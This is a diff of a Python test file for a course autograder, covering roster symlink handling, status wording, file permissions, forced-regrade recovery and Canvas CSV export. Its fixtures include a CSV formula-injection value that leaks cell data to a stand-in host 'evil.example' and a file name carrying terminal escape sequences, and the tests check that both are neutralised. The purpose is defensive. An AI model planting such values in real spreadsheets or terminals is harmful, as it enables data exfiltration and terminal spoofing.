@@ -14,21 +14,13 @@ from pathlib import Path
 
 import pytest
 
-from autograder.course.class_outputs import (
-    AMBIGUOUS_STATUS,
-    COULD_NOT_GRADE,
-    GRADED,
-    NO_SUBMISSION,
-    Row,
-    canvas_csv,
-    class_table,
-    grades_csv,
-)
-from autograder.course.grading_pool import descendants
+from autograder.course.class_outputs import canvas_csv, class_table, grades_csv
 from autograder.course.roster import AMBIGUOUS, SUBMITTED, read_roster
+from autograder.course.rows import GRADED, NO_SUBMISSION, Row
 from autograder.course.store import ClassInputs, Record
 from autograder.model import CANNOT_GRADE
 from autograder.rubric import DEFAULT_RUBRIC, load_rubric
+from autograder.sandbox.procfs import descendants
 from classkit import ROOT, autograder, fill_record, make_course, synthetic_run
 from helpers import REFERENCE
 
@@ -63,6 +55,54 @@ def test_every_student_folder_is_an_entry_with_the_file_graded_and_why(tmp_path)
     assert roster["fay"].status == "no_submission" and "notes.txt" in roster["fay"].note
     assert roster["gus"].status == "no_submission" and "(it is empty)" in roster["gus"].note
     assert roster["hal"].status == "no_submission" and "no mha/ folder" in roster["hal"].note
+
+
+def test_the_roster_never_follows_a_link_out_of_a_students_folder(tmp_path):
+    """frank's mha/ is a link to alice's, gina's file a link to alice's file, hugo's whole folder a link
+    to alice's: none of them is graded as theirs (no submission, with a note); a link inside the folder
+    (ivy's) is followed."""
+    course = make_course(
+        tmp_path,
+        {"alice": {"mha.py": "x = 1\n"}, "frank": None, "gina": {}, "hugo": None, "ivy": {"mha (1).py": "y = 2\n"}},
+    )
+    submitted = course / "submitted"
+    (submitted / "frank" / "mha").symlink_to("../alice/mha")
+    (submitted / "gina" / "mha" / "mha.py").symlink_to(submitted / "alice" / "mha" / "mha.py")
+    (submitted / "hugo").rmdir()
+    (submitted / "hugo").symlink_to(submitted / "alice")
+    (submitted / "ivy" / "mha" / "mha.py").symlink_to("mha (1).py")
+    roster = {e.student: e for e in read_roster(course)}
+    assert sorted(roster) == ["alice", "frank", "gina", "hugo", "ivy"]
+    assert roster["frank"].status == NO_SUBMISSION and "symbolic link out of frank's folder" in roster["frank"].note
+    assert roster["gina"].status == NO_SUBMISSION and "mha.py is a symbolic link out of" in roster["gina"].note
+    assert roster["hugo"].status == NO_SUBMISSION and "symbolic link, not followed" in roster["hugo"].note
+    assert roster["ivy"].file == submitted / "ivy" / "mha" / "mha.py"
+    rows = {r["student"]: r for r in csv.DictReader(io.StringIO(grades_csv(class_rows_of(course), load_rubric())))}
+    for student in ("frank", "gina", "hugo"):
+        assert rows[student]["status"] == NO_SUBMISSION and rows[student]["score"] == "0" and rows[student]["note"]
+
+
+def test_the_roster_and_the_reader_share_one_file_name_rule(tmp_path):
+    """`MHA.PY` and `Mha.IPYNB` are a .py and a notebook to the roster and to the reader alike."""
+    from autograder.grading.submission import read_cells
+
+    course = make_course(
+        tmp_path, {"kim": {"MHA.PY": "x = 1\n"}, "lee": {"Mha.IPYNB": NOTEBOOK}, "max": {"mha.PY.txt": ""}}
+    )
+    roster = {e.student: e for e in read_roster(course)}
+    assert [c.source for c in read_cells(roster["kim"].file)] == ["x = 1\n"]
+    assert [c.source.strip() for c in read_cells(roster["lee"].file)] == ["y = 2"]
+    assert roster["max"].status == NO_SUBMISSION
+
+
+def class_rows_of(course) -> list[Row]:
+    return [Row(e, None) for e in read_roster(course)]
+
+
+NOTEBOOK = (
+    '{"cells": [{"cell_type": "code", "execution_count": null, "metadata": {}, "outputs": [], "source": "y = 2"}],'
+    ' "metadata": {}, "nbformat": 4, "nbformat_minor": 5}'
+)
 
 
 # -- nothing stale ----------------------------------------------------------------------------------
@@ -182,7 +222,7 @@ def test_grades_csv_has_a_row_per_student_with_parts_status_file_and_note(tmp_pa
     rubric = load_rubric()
     rows = {r["student"]: r for r in csv.DictReader(io.StringIO(grades_csv(class_rows(tmp_path), rubric)))}
     assert list(rows) == ["ann", "bob", "cat", "dan", "eve"]
-    assert [rows[s]["status"] for s in rows] == [GRADED, GRADED, AMBIGUOUS_STATUS, COULD_NOT_GRADE, NO_SUBMISSION]
+    assert [rows[s]["status"] for s in rows] == [GRADED, GRADED, AMBIGUOUS, CANNOT_GRADE, NO_SUBMISSION]
     assert rows["ann"]["score"] == "100" and rows["ann"]["mha"] == str(int(rubric.part_points("mha")))
     expected_bob = rubric.max_score - rubric.part_points("mha") + 5 - rubric.part_points("fuse")
     assert float(rows["bob"]["score"]) == expected_bob and rows["bob"]["mha"] == "5" and rows["bob"]["fuse"] == "0"
@@ -190,6 +230,29 @@ def test_grades_csv_has_a_row_per_student_with_parts_status_file_and_note(tmp_pa
     assert "graded mha.ipynb" in rows["cat"]["note"] and "not graded: mha.py" in rows["cat"]["note"]
     assert rows["dan"]["score"] == "" and "900 s" in rows["dan"]["note"]  # no made-up zero
     assert rows["eve"]["score"] == "0" and rows["eve"]["file"] == ""
+
+
+def test_one_status_vocabulary_in_results_json_grades_csv_and_the_tables(tmp_path):
+    """A run that could not grade is `cannot_grade` in results.json, grades.csv and (with a space) on the
+    terminal; a results.json that says it another way still reads back as that status."""
+    from rich.console import Console
+
+    from autograder.course.class_outputs import students_table
+    from autograder.course.rows import STATUSES, status_words
+    from autograder.model import GradingRun
+
+    rows = class_rows(tmp_path)
+    written = {r["student"]: r["status"] for r in csv.DictReader(io.StringIO(grades_csv(rows, load_rubric())))}
+    assert set(written.values()) <= set(STATUSES) and written["dan"] == CANNOT_GRADE
+    dan = next(r for r in rows if r.student == "dan")
+    assert dan.run.to_gradescope()["extra_data"]["status"] == written["dan"]
+    console = Console(record=True, width=200)
+    console.print(students_table(rows))
+    shown = console.export_text()
+    assert status_words(CANNOT_GRADE) in shown and "could not" not in shown
+    old = dan.run.to_gradescope()
+    old["extra_data"]["status"] = "could_not_grade"
+    assert GradingRun.from_gradescope(old).status == CANNOT_GRADE
 
 
 def test_the_canvas_export_has_canvas_columns_points_possible_and_totals(tmp_path):
@@ -263,7 +326,7 @@ def test_crashes_floods_hangs_and_forks_never_stop_the_others_and_outputs_cover_
     assert "The class at a glance" in out and "grades.csv" in out and "feedback" in out
 
     again = autograder("grade-class", course, "--device", "cpu", "--student", "crash", "--force", cwd=tmp_path)
-    assert "1 submissions: 1 to grade, 0 already graded (1 forced)" in " ".join(again.stdout.split())
+    assert "1 submission: 1 to grade, 0 already graded (1 forced)" in " ".join(again.stdout.split())
     assert len(list(csv.DictReader((course / "grades.csv").open()))) == 6  # outputs still cover everyone
 
 
@@ -345,3 +408,158 @@ def test_a_rerun_with_nothing_changed_grades_nothing_and_writes_nothing(tmp_path
         assert path.stat().st_mtime_ns == before[path][0], f"{path} was rewritten"
     assert (course / "grades.csv").read_bytes() == before[outputs[0]][1]
     assert took < 60  # (about a second; generous for a loaded machine)
+
+
+def test_the_class_modules_import_each_other_without_a_circle_and_at_the_top():
+    """class_outputs, feedback and gradebook all read `rows.Row`: no circle among the class modules,
+    and none broken by an import inside a function."""
+    import ast
+
+    from autograder.course.store import PACKAGE_DIR
+
+    graph: dict[str, set[str]] = {}
+    for path in sorted((PACKAGE_DIR / "course").glob("*.py")):
+        tree = ast.parse(path.read_text())
+        top = set(tree.body)
+        graph[path.stem] = set()
+        for node in ast.walk(tree):
+            if isinstance(node, ast.ImportFrom) and (node.module or "").startswith("autograder.course"):
+                assert node in top, f"{path.name}:{node.lineno} imports {node.module} inside a function"
+                graph[path.stem].add(node.module.split(".")[2])
+    done: set[str] = set()
+
+    def visit(module: str, path: tuple[str, ...]):
+        assert module not in path, f"import circle: {' -> '.join((*path, module))}"
+        if module not in done:
+            for imported in graph.get(module, ()):
+                visit(imported, (*path, module))
+            done.add(module)
+
+    for module in graph:
+        visit(module, ())
+    assert {"rows"} <= graph["feedback"] & graph["gradebook"] & graph["class_outputs"]
+
+
+# -- names a student chose ---------------------------------------------------------------------------
+
+FORMULA = '=HYPERLINK("evil.example?"&A1,"x")&x.py'  # (a file name holds no slash)
+ESCAPES = "\x1b]0;owned\x07\x1b[31mred\x1b[0m\x9b2J.py"  # OSC (window title), CSI, and C1's CSI
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", " =", "\t="])
+def test_a_csv_cell_that_could_be_a_formula_is_neutralised(start):
+    from autograder.course.clean import csv_cell
+
+    cell = csv_cell(start + "1+1")
+    assert cell.startswith("'") and "\t" not in cell and "\r" not in cell
+    assert csv_cell("mha (1).py") == "mha (1).py" and csv_cell("87.14") == "87.14"
+
+
+def test_file_and_folder_names_never_reach_a_csv_as_formulas_nor_a_terminal_as_escapes(tmp_path):
+    """A submission named as a formula, one named with terminal escapes, a student folder named as a
+    formula: grades.csv, the Canvas file, the terminal and the feedback page get them cleaned."""
+    from rich.console import Console
+
+    from autograder.course.class_outputs import OutputOptions, write_class_outputs
+    from autograder.course.feedback import render
+
+    course = make_course(
+        tmp_path / "course",
+        {"ann": {FORMULA: "x = 1\n"}, "bob": {ESCAPES: "x = 1\n"}, "@SUM(1+1)": {"mha.py": "x = 1\n"}},
+    )
+    runs = {e.student: synthetic_run(e.file.name) for e in read_roster(course)}
+    rows = [Row(e, runs[e.student]) for e in read_roster(course)]
+    out = io.StringIO()
+    console = Console(file=out, width=200, color_system=None, force_terminal=False)
+    write_class_outputs(course, rows, load_rubric(), OutputOptions(gradebook=False), console)
+    for name in ("grades.csv", "grades-canvas.csv"):
+        text = (course / name).read_text()
+        assert "\x1b" not in text and "\x07" not in text and "\x9b" not in text, name
+        for line in csv.reader(io.StringIO(text)):
+            assert not [cell for cell in line if cell.lstrip().startswith(("=", "+", "-", "@"))], (name, line)
+    grades = {r["student"]: r for r in csv.DictReader((course / "grades.csv").open())}
+    assert grades["ann"]["file"] == "'" + FORMULA and grades["'@SUM(1+1)"]["score"] == "100"
+    assert "\x1b" not in out.getvalue() and "\x07" not in out.getvalue() and "owned" in out.getvalue()
+    page = render(rows[1])
+    assert "\x1b" not in page and "\x9b" not in page
+
+
+def test_a_class_run_closes_the_course_to_other_users_and_writes_nothing_they_can_read(tmp_path):
+    """Under process isolation a worker runs as another uid: it must not read classmates' submissions,
+    results.json (hidden checks' messages) or the grades. The course folder loses its bits for others,
+    and every output is 0640."""
+    import stat
+
+    from autograder.course import grade_class
+
+    course = make_course(tmp_path / "course", {"ann": {"mha.py": "x = 1\n"}, "bob": {}})
+    os.chmod(course, 0o755)
+    fill_record(course, {"ann": synthetic_run("mha.py")})
+    assert grade_class.grade_class(course, device="cpu") == grade_class.EXIT_DONE
+    assert stat.S_IMODE(course.stat().st_mode) == 0o750
+    for path in (
+        course / "grades.csv",
+        course / "grades-canvas.csv",
+        course / "autograded/ann/mha/results.json",
+        course / "feedback/ann/mha/feedback.html",
+        course / "feedback/bob/mha/feedback.html",
+    ):
+        assert stat.S_IMODE(path.stat().st_mode) == 0o640, path
+
+
+def test_a_forced_run_stopped_halfway_is_finished_forced_by_the_next_run_and_merge_says_so(
+    tmp_path, monkeypatch, capsys
+):
+    """FORCE=1 stopped after one of three students: the next run without FORCE regrades the other two
+    (forced), not the first again, and until then a merge refuses, naming them."""
+    import json
+
+    from autograder.course import grade_class
+    from autograder.course.grading_pool import GradingAttempt
+    from autograder.model import GradingRun
+
+    course = make_course(tmp_path / "course", {s: {"mha.py": "x = 1\n"} for s in ("ann", "bob", "cat")})
+    fill_record(course, {s: synthetic_run("mha.py") for s in ("ann", "bob", "cat")})
+    graded: list[str] = []
+    stopped = []
+
+    class Grader:
+        def __init__(self, env=None):
+            pass
+
+        def grade(self, request, timeout):
+            if stopped == [] and request["id"] != "ann":
+                raise KeyboardInterrupt  # Ctrl-C at bob (a kill -9 leaves the same record behind)
+            graded.append(request["id"])
+            with open(request["out"], "w") as handle:
+                json.dump(GradingRun(status="graded", submission="mha.py").to_gradescope(), handle)
+            return GradingAttempt(ok=True)
+
+        def close(self):
+            pass
+
+    monkeypatch.setattr(grade_class, "Grader", Grader)
+    assert grade_class.grade_class(course, device="cpu", jobs=1, force=True) == grade_class.EXIT_INTERRUPTED
+    assert graded == ["ann"] and "the forced regrade is half done (2 students" in capsys.readouterr().out
+    stopped.append("the first run is over")
+    assert grade_class.merge_class(course) == grade_class.EXIT_MERGE_INCOMPLETE
+    said = " ".join(capsys.readouterr().out.split())
+    assert "bob: a forced regrade stopped before it regraded this student" in said and "ann:" not in said
+    assert grade_class.grade_class(course, device="cpu", jobs=1) == grade_class.EXIT_DONE
+    said = " ".join(capsys.readouterr().out.split())
+    assert graded == ["ann", "bob", "cat"] and "2 forced (the last forced run stopped before it)" in said
+    assert grade_class.grade_class(course, device="cpu", jobs=1) == grade_class.EXIT_DONE
+    assert graded == ["ann", "bob", "cat"] and "0 to grade" in capsys.readouterr().out
+    assert grade_class.merge_class(course) == grade_class.EXIT_DONE
+
+
+def test_the_canvas_file_can_name_an_existing_canvas_assignment_as_canvas_reads_headers(tmp_path):
+    """Canvas matches a column headed "Name (id)" to the assignment with that id; a bare name only to an
+    assignment of exactly that name (else it makes a new one), which the run says."""
+    from autograder.course.class_outputs import canvas_header_note
+
+    rubric = load_rubric()
+    header = "Multi-head attention, part 2 (48213)"
+    lines = list(csv.reader(io.StringIO(canvas_csv(class_rows(tmp_path), rubric, header))))
+    assert lines[0][5] == header and canvas_header_note(header) == ""
+    assert "makes a new one" in canvas_header_note("mha") and "Name (id)" in canvas_header_note("mha")
